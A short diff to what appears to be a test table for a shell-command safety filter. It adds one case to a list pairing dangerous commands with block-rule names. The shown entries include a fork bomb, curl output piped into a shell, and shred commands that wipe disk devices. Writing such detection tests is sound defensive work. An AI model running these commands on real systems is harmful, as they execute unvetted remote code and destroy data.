@@ -141,6 +141,7 @@ while True: os.fork()'`, "floor-fork-bomb"},
 	{`sh < <(curl x)`, "floor-pipe-shell"},
 	{`bash <<< "$(curl x)"`, "floor-pipe-shell"},
 	{`$(curl -s x)`, "floor-pipe-shell"},
+	{`curl -s x | xargs sh -c`, "floor-pipe-shell"},
 	// Disks, filesystems, moves, modes.
 	{`shred /dev/vda`, "floor-dd-device"},
 	{`shred -n 1 -z /dev/sda1`, "floor-dd-device"},
